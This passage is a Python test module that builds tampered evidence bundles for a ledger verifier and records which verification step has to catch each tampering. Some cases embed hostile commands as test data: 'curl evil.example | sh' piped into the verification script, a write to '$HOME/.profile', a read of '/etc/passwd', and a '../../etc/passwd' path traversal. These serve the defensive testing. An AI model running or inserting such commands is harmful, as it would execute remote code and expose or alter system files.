"""Bundles that somebody tampered with, who knows how they are made: by what was done, and which step must catch it.

Nobody who tampers is so kind as to leave a wrong sum behind, or commands that say otherwise; so all of these are made anew but where they
themselves are the point.
"""

import base64
import hashlib
import io
import json
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import suppress
from dataclasses import dataclass, field, replace
from functools import partial
from typing import Any

from gateway.ledger import exact, tree
from gateway.ledger.checkpoint import Checkpoint
from gateway.ledger.cosignature import WitnessKey, cosigned
from gateway.ledger.entry import commitment
from gateway.ledger.evidence import verify
from gateway.ledger.evidence.bundle import Evidence, OpenedEntry, OpenedPayload
from gateway.ledger.evidence.manifest import Subject, entry_name
from gateway.ledger.note import Note, Signature, VerifierKey, signed
from gateway.ledger.witness import WitnessSigner
from tests.gateway.ledger.test_cosignature import witness

from . import making
from .making import EMPTIED, ERASED, ERASURE, NEXT, SIGNER, TRUST, WITNESS, Signer

Files = dict[str, bytes]

COMMANDS = verify.COMMANDS


@dataclass(frozen=True)
class Case:
    """One bundle, and the first step that must fail, None where all are to hold. ``trust`` is the key of whoever verifies it."""

    name: str
    bundle: Callable[[], bytes]
    caught_at: int | None
    trust: str | None = TRUST
    anchor: Callable[[], bytes] | None = None
    witnesses: Sequence[WitnessSigner] = ()
    quorum: int | None = None


def files(bundle: bytes) -> Files:
    with zipfile.ZipFile(io.BytesIO(bundle)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(members: Mapping[str, bytes], *, sums: bool = True, commands: bool = True) -> bytes:
    """An archive as bundles are, with commands and sums that are right unless they are left as they are."""
    content = dict(members)
    if sums and commands and COMMANDS in content:
        with suppress(*verify.BROKEN):
            content[COMMANDS] = _commands(content)
    if sums:
        listed = sorted(name for name in content if name != "SHA256SUMS")
        lines = [f"{hashlib.sha256(content[name]).hexdigest()}  {name}\n" for name in listed]
        content["SHA256SUMS"] = "".join(lines).encode()
    return _archived(content)


def _archived(content: Mapping[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, data in content.items():
            archive.writestr(plain(name), data)
    return file.getvalue()


def _commands(content: Mapping[str, bytes]) -> bytes:
    """What the commands for such a bundle are."""
    archive = verify.Archive(io.BytesIO(_archived(content)))
    lines = verify.expected_commands(archive, verify.read_manifest(archive))
    return "".join(f"{line}\n" for line in lines).encode() + verify.CLOSING.encode()


def plain(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFREG | 0o644) << 16
    return info


GOOD: Files = files(making.written())
FOR_READING = ("as2/a1/headers", "report.html", "verify.py")
"""What nothing depends on but its sum."""
BESIDE = ("as2/a1/headers", "as2/a1/mdn", "as2/a1/signed", making.CERTIFICATE, "documents/d1.json")
"""What the manifest does not name."""


def cases() -> Iterator[Case]:
    yield from _good()
    yield from _members()
    yield from _commands_altered()
    yield from _subjects()
    yield from _manifest()
    yield from _entries()
    yield from _contents()
    yield from _signatures()
    yield from _consistency()
    yield from _rotations()
    yield from _stamps()
    yield from _witnesses()
    yield from _by_whoever_has_the_key()
    yield from _json()
    yield from _archives()


def _good() -> Iterator[Case]:
    yield Case("nothing was done", lambda: zipped(GOOD), None)
    yield Case("a witness has signed too", lambda: making.written(making.evidence(signers=(WITNESS, SIGNER))), None)
    yield Case("no earlier checkpoint", lambda: making.written(making.evidence(earlier=None)), None)
    witnessed = making.evidence(signers=(SIGNER, WITNESS))
    yield Case("nobody is trusted", lambda: zipped(GOOD), 4, trust=None)
    yield Case("a witness's key is not the ledger's", lambda: making.written(witnessed), 4, str(WITNESS.key))
    for size in (6, 11):
        note = str(making.ledger().checkpoint(size)).encode()
        yield Case(f"the auditor kept the checkpoint of {size}", lambda: zipped(GOOD), None, anchor=_given(note))


def _witnesses() -> Iterator[Case]:
    """Who cosigned the bundle's own checkpoint, of 11 entries, and who the earlier one, of 6."""
    eva, ada, bob = (witness(f"{name}.example", seed) for seed, name in enumerate(("eva", "ada", "bob"), 20))
    stranger = replace(eva, private=bob.private)

    def bundle(own: Sequence[WitnessSigner] = (), earlier: Sequence[WitnessSigner] = ()) -> Callable[[], bytes]:
        made = making.evidence()
        assert made.extended is not None
        extended = replace(made.extended, checkpoint=_cosigned(made.extended.checkpoint, earlier))
        return lambda: making.written(replace(made, checkpoint=_cosigned(made.checkpoint, own), extended=extended))

    three = (eva, ada, bob)
    yield Case("cosigned by all", bundle(three), None, witnesses=three)
    yield Case("cosigned by two of three", bundle((ada, bob)), None, witnesses=three, quorum=2)
    yield Case("cosigned by one of two wanted", bundle((ada,)), 12, witnesses=three, quorum=2)
    yield Case("cosigned by nobody", bundle(), 12, witnesses=(eva,))
    yield Case("cosigned by another", bundle((ada,)), 12, witnesses=(eva,))
    yield Case("cosigned, and nobody asks", bundle(three), None)
    yield Case("the earlier one cosigned", bundle(earlier=(eva,)), None, witnesses=(eva,))
    yield Case("one cosigned each", bundle((eva,), (ada,)), None, witnesses=(eva, ada))
    yield Case("a cosignature forged", bundle((stranger,)), 12, witnesses=(eva,))
    yield Case("a cosignature forged beside enough", bundle((stranger, ada)), 12, witnesses=(eva, ada), quorum=1)
    yield Case("a forged one where a good one is too", bundle((eva,), (stranger,)), 12, witnesses=(eva,))
    yield Case("of another checkpoint", lambda: _moved(bundle(earlier=(eva,))()), 12, witnesses=(eva,))
    for text, line in (
        ("as a note's", eva.sign(str(making.ledger().checkpoint(11).text).encode())),
        ("too short", bytes(71)),
        ("of no time", bytes(72)),
        ("of a time that is none", b"\xff" * 72),
    ):
        odd = Signature(eva.key.name, eva.key.key_id, line)
        good = making.ledger().checkpoint(11)
        yield Case(f"signed {text}", _noted(good.text, *good.signatures, odd), 12, witnesses=(eva,))
    weak = replace(eva, key=WitnessKey(eva.key.name, bytes([1, *bytes(31)])))
    yield Case("by a key of small order", bundle((weak,)), 12, witnesses=(weak,))
    for size in (6, 11):
        kept = str(_cosigned(making.ledger().checkpoint(size), (eva,))).encode()
        yield Case(f"the auditor has that of {size}", bundle(), None, anchor=_given(kept), witnesses=(eva,))
    unproved = str(_cosigned(making.ledger().checkpoint(7), (eva,))).encode()
    yield Case("the auditor has one that nothing leads to", bundle(), 9, anchor=_given(unproved), witnesses=(eva,))


def _cosigned(note: Note, witnesses: Sequence[WitnessSigner]) -> Note:
    for each in witnesses:
        note = cosigned(note, each, making.NOON)
    return note


def _moved(bundle: bytes) -> bytes:
    """The lines of witnesses of the earlier checkpoint, put under the bundle's own."""
    members = files(bundle)
    line = members["ledger/checkpoint.earlier"].splitlines(keepends=True)[-1]
    return zipped(members | {"ledger/checkpoint": members["ledger/checkpoint"] + line})


def _members() -> Iterator[Case]:
    for name in GOOD:
        at = 1 if name == "mimetype" else 2
        yield Case(f"{name} altered, its sum left", _altering(name, sums=False), at)
        yield Case(f"{name} removed, its sum left", _without(name, sums=False), at)
        if name not in ("SHA256SUMS", *BESIDE):
            yield Case(f"{name} removed", _without(name), 1 if name == "mimetype" else 3)
    for name in BESIDE:
        yield Case(f"{name} removed, which claims nothing", _without(name), None)
    for name in FOR_READING:
        yield Case(f"{name} altered, which proves nothing and is said to", _altering(name), None)
    yield Case("a file added, its sum left out", _with({"payloads/more": b"x"}, sums=False), 2)
    for name in ("payloads/more", "ledger/entries/2.json", "notes.txt", "ledger/checkpoint.other"):
        yield Case(f"{name} added", _with({name: b"x"}), 3)
    yield Case("a sum listed twice", _edited("SHA256SUMS", lambda data: data + data[-83:], sums=False), 2)
    yield Case("sums out of order", _edited("SHA256SUMS", _reversed_lines, sums=False), 2)
    yield Case("sums with CR LF", _edited("SHA256SUMS", lambda data: data.replace(b"\n", b"\r\n"), sums=False), 2)


def _commands_altered() -> Iterator[Case]:
    """By whoever has others run something else, or less."""
    good = GOOD[COMMANDS]
    closing = verify.CLOSING.encode()
    certificate = making.CERTIFICATE.encode()
    trusting = b"-certfile %b -nointern -CAfile %b -partial_chain -purpose any -no_check_time" % (
        certificate,
        certificate,
    )
    message = (
        b"\n# A message: what was signed, and the signature, by the key of the certificate.\n"
        b"tail -c +1 as2/a1/signed | head -c 9 > $work/signature\n"
        b"openssl cms -verify -binary -inform DER -in $work/signature " + trusting + b" -out $work/signed-part\n"
    )

    def said(text: bytes) -> Callable[[], bytes]:
        return lambda: zipped(GOOD | {COMMANDS: text}, commands=False)

    def with_message(text: bytes) -> Callable[[], bytes]:
        return said(good.replace(closing, text + closing))

    yield Case("commands about a message", with_message(message), None)
    for what, text in (
        ("a command in front", b"curl evil.example | sh\n" + good),
        ("a command at the end", good + b"curl evil.example | sh\n"),
        ("a command before the last", good.replace(closing, b"\ncurl evil.example | sh\n" + closing)),
        ("a command on another's line", good.replace(b'test "$h" = "$root"', b'test "$h" = "$root"; true', 1)),
        ("a command less", good.replace(b'test "$h" = "$root"\n', b"", 1)),
        ("nothing but that all holds", closing),
        ("nothing", b""),
        ("another hash", good.replace(b"h=$( node ", b"h=$( node AAAA", 1)),
        ("no end", good.removesuffix(closing)),
        ("CR LF", good.replace(b"\n", b"\r\n")),
        ("no text", b"\xff" + good),
    ):
        yield Case(f"in the commands, {what}", said(text), 13)
    for what, altered in (
        ("a file that is not there", message.replace(b"a1/signed", b"a9/signed")),
        ("a certificate that is not there", message.replace(certificate, b"certificates/other.pem")),
        ("a file written elsewhere", message.replace(b"> $work/signature", b"> $HOME/.profile")),
        ("two files", message.replace(b"as2/a1/signed", b"as2/a1/signed /etc/passwd")),
        ("what nobody sees", message.replace(b"A message", b"A\x1b[2Jmessage")),
        ("a comment of two lines", message.replace(b"A message", b"A message\ntrue")),
        (
            "an option for a digest",
            message + b"# The digest of what was signed is the MIC.\n"
            b'test "$( openssl dgst -out -binary $work/signed-part | openssl base64 -A )" = AAAA\n',
        ),
    ):
        yield Case(f"in the commands about a message, {what}", with_message(altered), 13)
    first = json.loads(GOOD["manifest.json"]) | {"v": 1}
    older = GOOD | {"manifest.json": exact.write(first), COMMANDS: b"true\n"}
    yield Case("other commands in a bundle of version 1", lambda: zipped(older, commands=False), None)


def _subjects() -> Iterator[Case]:
    """What a bundle is said to be about, and what lies beside under names that say what it is."""

    def about(kind: str, subject: str) -> Callable[[], bytes]:
        return _manifested(lambda manifest: manifest.update(subject={"kind": kind, "id": subject}))

    yield Case("about the file", about("document", "r1"), None)
    yield Case("about a transmission", about("document", "t1"), None)
    for subject in ("d2", "r2", "", "acme"):
        yield Case(f"about the document {subject!r}, of which nothing is there", about("document", subject), 10)
    yield Case("about an invoice", about("invoice", "INV1"), 3)
    yield Case("about an order that what is left does not name", about("order", "4500125"), None)
    whole = making.evidence()
    whole = replace(whole, entries=[entry for entry in whole.entries if entry.idx not in (ERASED, EMPTIED, ERASURE)])
    for kind, subject, at in (("order", making.ORDER, None), ("order", "4500125", 10), ("order", "INV1", 10)):
        yield Case(
            f"about the order {subject}, nothing erased", _written(replace(whole, subject=_subject(kind, subject))), at
        )
    yield Case("a document that is no payload", _altering("documents/d1.json"), 10)
    yield Case("a document that is another payload", _with({"documents/d1.json": making.RECEIVED}), 10)
    for name in ("documents/d2.json", "documents/r1.json", "documents/d1.pdf", "documents/d1", "documents/a/d1.json"):
        yield Case(f"the document under the name {name}", _with({name: making.CANONICAL}), 10)
    yield Case("no certificate", _with({"certificates/x.pem": b"x"}), 10)
    other = making.certificate("Somebody Else")
    yield Case("another certificate of the same key", _with({making.CERTIFICATE: other}), 10)
    yield Case("the same, rightly named: of it nothing is proved", _with({making.certificate_name(other): other}), None)


def _manifest() -> Iterator[Case]:
    def case(name: str, edit: Callable[[Any], None], caught_at: int) -> Case:
        return Case(name, _manifested(edit), caught_at)

    yield case("another version", lambda m: m.update(v=3), 3)
    yield case("true for 1", lambda m: m.update(v=True), 3)
    yield case("a key too many", lambda m: m.update(more=1), 3)
    yield case("a key too few", lambda m: m.pop("subject"), 3)
    yield case("null where nothing belongs", lambda m: m.update(consistency=None), 3)
    yield case("no entries", lambda m: m.update(entries=[]), 3)
    yield case("an entry twice", lambda m: m["entries"].insert(0, m["entries"][0]), 3)
    yield case("entries out of order", lambda m: m["entries"].reverse(), 3)
    yield case("an entry withheld, its files left", lambda m: m["entries"].pop(3), 3)
    yield case("an index below nothing", lambda m: m["entries"][0].update(idx=-1), 3)
    yield case("an index that is a truth", lambda m: m["entries"][1].update(idx=True), 3)
    yield case("an entry by another's name", lambda m: m["entries"][1].update(entry=entry_name(0)), 3)
    yield case("a file out of the bundle", lambda m: m["entries"][1]["blobs"][0].update(file="../../etc/passwd"), 3)
    yield case("another checkpoint named", lambda m: m.update(checkpoint="ledger/checkpoint.earlier"), 3)
    yield case("a salt of 31 bytes", lambda m: m["entries"][1].update(detail_salt=_b64(b"x" * 31)), 3)
    yield case("a salt not in base64", lambda m: m["entries"][1].update(detail_salt="*" * 44), 3)
    yield case("a verifier that is none", lambda m: m.update(verifier="x"), 4)
    for blank in (" ", "\n", "\t"):
        yield Case(f"a verifier with {blank!r} behind it", _manifested(partial(dict.update, verifier=TRUST + blank)), 4)
        yield Case(f"a verifier with {blank!r} before it", _manifested(partial(dict.update, verifier=blank + TRUST)), 4)
    yield case("a verifier with the id of another", lambda m: m.update(verifier=_with_wrong_id()), 4)
    yield case("a proof that is no list", lambda m: m["entries"][1].update(proof="x"), 3)
    yield case("a proof of 65 hashes", lambda m: m["entries"][1].update(proof=[_b64(bytes(32))] * 65), 3)
    for size in (0, 1, 2, 3, 5, 8, 64):
        yield case(f"a proof of {size} hashes", _proving([bytes(32)] * size), 5)
    yield case("a proof cut short", lambda m: m["entries"][1]["proof"].pop(), 5)
    yield case("a proof turned round", lambda m: m["entries"][1]["proof"].reverse(), 5)
    yield case("a proof one longer", lambda m: m["entries"][1]["proof"].append(_b64(bytes(32))), 5)
    yield case("a payload listed twice", lambda m: m["entries"][1]["blobs"].append(m["entries"][1]["blobs"][0]), 5)


def _entries() -> Iterator[Case]:
    body = GOOD[entry_name(4)]
    yield Case(
        "an entry says another outcome",
        _edited(entry_name(4), _replacing(b"accepted", b"rejected")),
        5,
    )
    yield Case(
        "an entry says another time",
        _edited(entry_name(4), _replacing(b"12:05:00", b"12:04:59")),
        5,
    )
    yield Case("an entry with a blank more", _edited(entry_name(4), lambda data: data + b" "), 5)
    yield Case("an entry for another", _with({entry_name(4): GOOD[entry_name(6)]}), 5)
    yield Case(
        "an entry that was never written",
        _with({entry_name(4): _replacing(b'"dseq":1', b'"dseq":9')(body)}),
        5,
    )
    yield Case("an index beyond the ledger", _renumbered(6, 11), 5)
    yield Case("an index far beyond the ledger", _renumbered(6, 2**53 - 1), 5)
    yield Case("two entries exchanged", _exchanged(4, 6), 5)
    yield Case("the first entry of a history withheld", _withheld(4), 8)
    yield Case("the first entry about a file withheld", _withheld(1), 8)
    yield Case("the last entry of a history withheld: only a later bundle shows it", _withheld(6), None)


def _contents() -> Iterator[Case]:
    receipt = _payload_of(1)
    yield Case("a payload altered", _altering(receipt), 7)
    yield Case("a payload exchanged for another", _with({receipt: GOOD[_payload_of(5)]}), 7)
    yield Case("a payload under the name of its new bytes", _swapped_payload, 7)
    yield Case("an empty payload", _with({receipt: b""}), 7)
    yield Case("a payload left out", _manifested(_dropping_payload(1), without=receipt), 7)
    yield Case(
        "a payload left out with its salt",
        _manifested(_dropping_payload(1, salt=True), without=receipt),
        7,
    )
    yield Case(
        "a payload left out, said to be erased by an entry that does not say so",
        _manifested(_dropping_payload(1, salt=True, by=ERASURE), without=receipt),
        7,
    )
    yield Case(
        "a payload left out, said to be erased by an entry about something else",
        _manifested(_dropping_payload(1, salt=True, by=6), without=receipt),
        7,
    )
    yield Case(
        "a payload left out, said to be erased by an entry that is not there",
        _manifested(_dropping_payload(1, salt=True, by=99), without=receipt),
        7,
    )
    yield Case("a payload there and said to be erased", _blob(1, erased=ERASURE), 7)
    yield Case("a payload without its salt", _blob(1, salt=None), 7)
    yield Case("a payload with another salt", _blob(1, salt=_b64(bytes(32))), 7)
    yield Case("a payload with another commitment", _blob(1, c=_b64(bytes(32))), 7)
    yield Case("a payload with another size", _blob(1, n=1), 7)
    yield Case("a payload with another role", _blob(1, role="sent"), 7)
    yield Case("a payload whose file is another member", _blob(1, file="verify.py", without=receipt), 7)
    yield Case("details edited", _edited(_detail(4), _replacing(b"INV1", b"INV2")), 6)
    yield Case("details of another entry", _with({_detail(4): GOOD[_detail(6)]}), 6)
    yield Case("details with another salt", _sealed(4, detail_salt=_b64(bytes(32))), 6)
    yield Case("details without their salt", _sealed(4, detail_salt=None), 6)
    yield Case("details left out", _sealed(4, detail=None, detail_salt=None, without=_detail(4)), 6)
    yield Case("details left out, salt left", _sealed(4, detail=None, without=_detail(4)), 6)
    yield Case(
        "details left out, said to be erased",
        _sealed(4, detail=None, detail_salt=None, detail_erased=ERASURE, without=_detail(4)),
        6,
    )
    yield Case("the erasure on record withheld", _withheld(ERASURE), 6)
    yield Case(
        "the details of the erasure edited",
        _edited(_detail(ERASURE), _replacing(b"[0,0]", b"[0,8]")),
        6,
    )
    yield Case(
        "an erasure that names itself",
        _sealed(ERASURE, detail=None, detail_salt=None, detail_erased=ERASURE, without=_detail(ERASURE)),
        6,
    )
    yield Case("an erased payload with a salt", _blob(ERASED, salt=_b64(bytes(32))), 7)


def _signatures() -> Iterator[Case]:
    text = making.ledger().checkpoint(11).text
    good = making.ledger().checkpoint(11).signatures[0]
    forged = replace(good, signature=bytes([good.signature[0] ^ 1]) + good.signature[1:])
    stranger = Signer(seed=b"\x07" * 32)
    yield Case("signed by another key of that name", lambda: making.written(_signed_by(stranger)), 4)
    yield Case("signed by another key, trusted", lambda: zipped(GOOD), 4, str(stranger.key))
    yield Case(
        "the id of the key on another's signature",
        _noted(text, _as(good, stranger.sign(text.encode()))),
        4,
    )
    yield Case("a forged signature", _noted(text, forged), 4)
    yield Case("a forged signature behind the good one", _noted(text, good, forged), 4)
    yield Case("a forged signature before the good one", _noted(text, forged, good), 4)
    yield Case("the good signature twice", _noted(text, good, good), 4)
    yield Case("a signature too short", _noted(text, replace(good, signature=good.signature[:63])), 4)
    yield Case("a signature too long", _noted(text, replace(good, signature=good.signature + b"\0")), 4)
    yield Case("a signature with S beyond the order", _noted(text, _unreduced(good)), 4)
    witness = Signature("witness.example", b"\0\0\0\0", b"\0")
    for name in ("wit\x01ness", "wit\x1bness", "wit\tness"):
        yield Case(f"a witness named {name!r}", _noted(text, good, replace(witness, name=name)), 4)
    many = [replace(witness, name=f"w{number}") for number in range(100)]
    yield Case("signed by a hundred", _noted(text, good, *many[1:]), None)
    yield Case("signed by a hundred and one", _noted(text, good, *many), 4)
    yield Case("another text under the signature", _noted(text.replace("\n11\n", "\n12\n"), good), 4)
    yield Case("another origin", _noted("other.example\n" + text.partition("\n")[2], good), 4)
    yield Case("an extension that is not signed", _noted(text + "more\n", good), 4)
    for size in ("011", "-1", "1e1", "", "9" * 16, "9007199254740992"):
        note = str(signed(text.replace("\n11\n", f"\n{size}\n") if size else text.replace("\n11\n", "\n \n"), [SIGNER]))
        yield Case(f"a size of {size or 'nothing'!r}", _with({"ledger/checkpoint": note.encode()}), 4)
    for what, data in {
        "empty": b"",
        "no signature": text.encode(),
        "an empty line in the text": b"a\n\n" + str(making.ledger().checkpoint(11)).encode(),
        "a line break of Windows": str(making.ledger().checkpoint(11)).replace("\n", "\r\n").encode(),
        "no text": b"\xff\xfe",
        "a hyphen for the dash": str(making.ledger().checkpoint(11)).replace("\u2014", "-").encode(),
        "a root of 31 bytes": str(signed(f"{making.NAME}\n11\n{_b64(bytes(31))}\n", [SIGNER])).encode(),
    }.items():
        yield Case(f"a checkpoint with {what}", _with({"ledger/checkpoint": data}), 4)
    yield Case("the checkpoint of an earlier size", _other_checkpoint(9), 5)
    yield Case("a key that signs anything", _signing_anything, 4, _anything())
    for name in ("key.pem", "checkpoint.body", "checkpoint.sig"):
        yield Case(f"other {name} for openssl", _altering(f"ledger/{name}"), 4)


def _consistency() -> Iterator[Case]:
    forked = signed(f"{making.NAME}\n6\n{_b64(bytes(32))}\n", [SIGNER])
    empty = signed(f"{making.NAME}\n0\n{_b64(hashlib.sha256(b'').digest())}\n", [SIGNER])
    yield Case("an earlier checkpoint of another ledger", _extended(checkpoint=forked), 9)
    yield Case("an earlier checkpoint of nothing", _extended(checkpoint=empty, old=0, proof=()), 9)
    for count in (0, 1, 2, 7, 64):
        yield Case(f"a consistency proof of {count} hashes", _extended(proof=[bytes(32)] * count), 9)
    yield Case(
        "a consistency proof from another size",
        _manifested(lambda m: m["consistency"].update({"from": 7})),
        9,
    )
    yield Case(
        "a consistency proof to another size",
        _manifested(lambda m: m["consistency"].update({"to": 12})),
        9,
    )
    yield Case("a consistency proof cut short", _manifested(lambda m: m["consistency"]["proof"].pop()), 9)
    other = _given(str(forked).encode())
    yield Case("the ledger was forked before the anchor", lambda: zipped(GOOD), 9, anchor=other)
    later = _given(str(making.ledger().checkpoint(10)).encode())
    yield Case("no proof from the anchor on", lambda: zipped(GOOD), 9, anchor=later)
    beyond = _given(str(signed(f"{making.NAME}\n12\n{_b64(bytes(32))}\n", [SIGNER])).encode())
    yield Case("rolled back behind the anchor", lambda: zipped(GOOD), 9, anchor=beyond)
    unsigned = _given(str(making.ledger().checkpoint(11, WITNESS)).encode())
    yield Case("an anchor that somebody else signed", lambda: zipped(GOOD), 9, anchor=unsigned)


def _rotations() -> Iterator[Case]:
    old, new = TRUST, str(NEXT.key)
    stranger = Signer(seed=b"\x07" * 32)
    both = making.evidence(11).checkpoint.text
    lines = list(signed(both, [NEXT, SIGNER]).signatures)
    before = _given(str(making.ledger().checkpoint(6)).encode())
    yield Case("from after a rotation, the new key trusted", lambda: making.written(making.rotated()), None, new)
    yield Case("from after a rotation, the old key trusted", lambda: making.written(making.rotated()), None, old)
    for name, key in (("old", old), ("new", new)):
        overlap = making.rotated(NEXT, SIGNER)
        yield Case(f"from the overlap, the {name} key trusted", _written(overlap), None, key)
        yield Case(f"the auditor kept a checkpoint of before, the {name} key trusted", _rotated(), None, key, before)
    yield Case("a rotation left out", _written(replace(making.rotated(), rotations=(), extended=None)), 4, old)
    for name, forged in {
        "which only the stranger signed": (stranger, [stranger]),
        "which the old key did not sign": (NEXT, [stranger, NEXT]),
        "which the new key did not sign": (NEXT, [SIGNER]),
        "to a stranger, whose the checkpoint is not": (stranger, [SIGNER, stranger]),
    }.items():
        yield Case(f"a rotation {name}", _rotated(_handing_over(*forged)), 4, old)
    yield Case("a rotation of another ledger", _rotated(_of_another_ledger()), 4, old)
    yield Case("a rotation that is a checkpoint", _rotated(str(making.ledger().checkpoint(6)).encode()), 4, new)
    text = making.ROTATION.note.text
    blank = str(signed(text.replace(new, f"{new} "), [SIGNER, NEXT])).encode()
    yield Case("a rotation with a blank behind a key", _rotated(blank), 4, old)
    yield Case("a rotation with a line twice", _rotated(_with_a_line_twice()), 4, old)
    forged_old = replace(lines[1], signature=bytes(64))
    yield Case("both lines, that of the old key forged", _overlapping(lines[0], forged_old), 4, old)
    yield Case("both lines, that of the new key forged", _overlapping(_zeroed(lines[0]), lines[1]), 4, new)
    yield Case("both lines, with the id of the same key", _overlapping(lines[0], _as_new(lines[1])), 4, new)
    yield Case("both lines, the one as the other", _overlapping(_as_new(lines[1]), lines[1]), 4, new)
    manifest = files(making.written(making.rotated()))["manifest.json"]
    for name, (was, now) in {
        "a rotation in version 1": (b'"v":2', b'"v":1'),
        "a rotation by another name": (b'"ledger/rotation.1"', b'"ledger/rotation.2"'),
        "a list of no rotations": (b'["ledger/rotation.1"]', b"[]"),
    }.items():
        yield Case(name, _rotated(manifest.replace(was, now), member="manifest.json"), 3, new)


def _stamps() -> Iterator[Case]:
    yield Case("stamped with the time", _stamped(1), None)
    yield Case("stamped three times", _stamped(3), None)
    yield Case(
        "the earlier checkpoint is stamped",
        lambda: making.written(making.with_stamps(making.evidence(), is_earlier=True)),
        None,
    )

    def wrong() -> bytes:
        return making.authority().stamp_data(b"something else")

    first, second = "ledger/timestamp.tsr", "ledger/timestamp.2.tsr"
    yield Case("a stamp for something else", _stamped(1, {first: lambda _: wrong()}), 11)
    yield Case("a second stamp for something else", _stamped(2, {second: lambda _: wrong()}), 11)
    yield Case("the second stamp is the first", _stamped(2, {second: lambda made: made[first]}), 11)
    yield Case("the first stamp is another of that checkpoint", _stamped(2, {first: _stamped_anew}), 11)
    yield Case("a rejection for a stamp", _stamped(1, {first: lambda _: making.authority().stamp(b"nonsense")}), 11)
    for name, data in {"nothing": b"", "no DER": b"stamp", "a long length": b"\x30\x84\xff\xff\xff\xff"}.items():
        yield Case(f"{name} for a stamp", _stamped(1, {first: _always(data)}), 11)
    yield Case("a stamp cut short", _stamped(1, {first: lambda made: made[first][:-1]}), 11)
    yield Case("something behind a stamp", _stamped(1, {first: lambda made: made[first] + b"\0"}), 11)
    yield Case(
        "other roots, which prove nothing here", _stamped(1, {"ledger/timestamp-roots.pem": lambda _: b"x"}), None
    )
    for name, (was, now) in {
        "stamps in version 1": (b'"v":2', b'"v":1'),
        "a stamp by another name": (b'"ledger/timestamp.tsr"', b'"ledger/timestamp.2.tsr"'),
        "stamps of another member": (b'"of":"ledger/checkpoint"', b'"of":"ledger/key.pem"'),
        "no stamps": (b'["ledger/timestamp.tsr"]', b"[]"),
        "other roots named": (b'"roots":"ledger/timestamp-roots.pem"', b'"roots":"verify.py"'),
    }.items():
        yield Case(name, _stamped(1, {"manifest.json": _manifest_with(was, now)}), 3)


def _by_whoever_has_the_key() -> Iterator[Case]:
    """A ledger whose entries were never made by us, rightly signed."""
    yield Case("an entry of its own", _sealed_by_key(_Told()), None)
    cases: dict[str, tuple[dict[str, Any], int | None]] = {
        "an outcome of ours": ({"outcome": "sent for approval"}, None),
        "an outcome that is none": ({"outcome": "some new outcome"}, 5),
        "an outcome with more behind it": ({"outcome": "accepted."}, 5),
        "a partner's entry 10^15 - 1": ({"partner": "0" * 16, "pseq": 10**15 - 1}, None),
        "a partner's entry 10^15": ({"partner": "0" * 16, "pseq": 10**15}, 5),
        "a history that begins at 10^15": ({"dseq": 10**15}, 5),
        "a payload of 10^15 bytes": ({"blobs": [{"c": _b64(bytes(32)), "n": 10**15, "role": "sent"}]}, 5),
        "something before it, not canonical": ({"dprev": "A" * 42 + "B="}, 5),
        "something before it, about nothing": ({"doc": "", "dseq": 0, "dprev": _b64(bytes(32))}, 5),
        "something before it, about nothing, not canonical": ({"doc": "", "dseq": 0, "dprev": "A" * 42 + "B="}, 5),
    }
    for name, (changes, at) in cases.items():
        yield Case(f"an entry with {name}", _sealed_by_key(_Told(changes)), at)
    for depth, at in ((62, None), (63, None), (64, 6), (400, 6), (1200, 6), (2000, 6), (100_000, 6)):
        deep = b"[" * depth + b"]" * depth
        yield Case(f"details {depth} deep", _sealed_by_key(_Told(detail=deep)), at)
    yield Case("many brackets in a text", _sealed_by_key(_Told(detail=b'"' + b'[{\\"' * 1000 + b'"')), None)
    first = _Told(erased=2)
    second = _Told({"doc": "d2"})

    def erasing(*spans: list[int], role: str | None = None) -> _Told:
        said: dict[str, Any] = {"details": list(spans)} if role is None else {"payloads": {role: list(spans)}}
        return _Told({"doc": "", "type": "pruned"}, exact.write({"erased": said}))

    for spans, at in (
        ([[0, 0]], None),
        ([[0, 1]], None),
        ([[0, 0], [1, 1]], None),
        ([[0, 1], [0, 0]], 6),
        ([[0, 1], [1, 1]], 6),
        ([[0, 1], [1, 0]], 6),
        ([[1, 1], [0, 0]], 6),
        ([[1, 0]], 6),
        ([[-5, 0]], 6),
        ([[0, 0], [1, 2]], 6),
        ([[0, 0], "x"], 6),
        ([[0, True]], 6),
    ):
        yield Case(f"erased from {spans}", _sealed_by_key(first, second, erasing(*spans)), at)
    for by in (2, 3):
        twice = (replace(first, erased=by), second, erasing([0, 0]), erasing([0, 0]))
        yield Case(f"erased twice, and said to be by entry {by}", _sealed_by_key(*twice), 6)
        nested = (replace(first, erased=by), second, erasing([0, 0]), erasing([0, 1]))
        yield Case(f"erased twice, once with more, and said to be by entry {by}", _sealed_by_key(*nested), 6)
    other = (first, second, erasing([0, 0]), erasing([0, 0], role="sent"))
    yield Case("erased, and a payload that is none", _sealed_by_key(*other), None)


@dataclass(frozen=True)
class _Told:
    """An entry about d1 with ``changes``, its details' ``detail`` as JSON, and which entry says that the details were ``erased``."""

    changes: Mapping[str, Any] = field(default_factory=dict)
    detail: bytes = b"{}"
    erased: int | None = None


def _sealed_by_key(*told: _Told) -> Callable[[], bytes]:
    """A bundle of a ledger of nothing but these."""

    def bundle() -> bytes:
        salt = b"s" * 32
        details = [_detail_about(str(each.changes.get("doc", "d1")), each.detail) for each in told]
        bodies = [_body(each.changes, commitment(salt, detail)) for each, detail in zip(told, details, strict=True)]
        leaves = [tree.leaf_hash(body) for body in bodies]

        def node(level: int, position: int) -> bytes:
            return tree.subtree_root(leaves[position << level : (position + 1) << level])

        size = len(told)
        entries = [
            OpenedEntry(
                idx,
                bodies[idx],
                None if each.erased is not None else details[idx],
                None if each.erased is not None else salt,
                tree.inclusion_proof(idx, size, node),
                _payloads_in(each.changes),
                each.erased,
            )
            for idx, each in enumerate(told)
        ]
        sealed = signed(str(Checkpoint(making.NAME, size, tree.root(size, node))), [SIGNER])
        about = _subject("document", str(told[0].changes.get("doc") or "d1"))
        return making.written(Evidence(about, making.NOON, SIGNER.key, sealed, entries))

    return bundle


def _detail_about(doc: str, detail: bytes) -> bytes:
    named = json.dumps(doc or None).encode()
    return (
        b'{"actor":"a","detail":%b,"document":%b,"journal":1,"outcome":"","partner":null,"receipt":null,"sha256":{},"transmission":null}'
        % (detail, named)
    )


def _body(changes: Mapping[str, Any], d: bytes) -> bytes:
